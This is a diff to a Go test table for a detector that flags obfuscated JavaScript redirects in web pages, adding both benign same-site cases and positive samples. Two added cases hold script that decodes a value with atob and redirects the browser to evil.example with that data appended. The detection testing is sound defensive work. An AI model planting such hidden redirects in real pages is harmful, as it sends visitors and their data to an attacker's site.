@@ -36,6 +36,10 @@ func TestHiddenRedirect(t *testing.T) {
 		{"joined text that makes no address", `<script>var m='Hello '+'world';location.href='/next'</script>`, false},
 		{"pieces outside any script", `<p>'ht'+'tps://' location.href=x</p>`, false},
 		{"no navigation", `<script>var u=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv');console.log(u)</script>`, false},
+		{"a search box going to its own site", `<script>var q=decodeURIComponent(location.search.slice(1)); if(q) window.location.href="/search?q="+q</script>`, false},
+		{"a relative replace and open", `<script>var q=atob(x);location.replace('./next?'+q);window.open("?page="+q)</script>`, false},
+		{"protocol-relative is another site", `<script>var q=atob(x);location.href="//evil.example/"+q</script>`, true},
+		{"a decoded query for another site", `<script>var q=atob(x);location.href="https://evil.example/?"+q</script>`, true},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			if got := hiddenRedirect([]byte(tc.page)); got != tc.hidden {
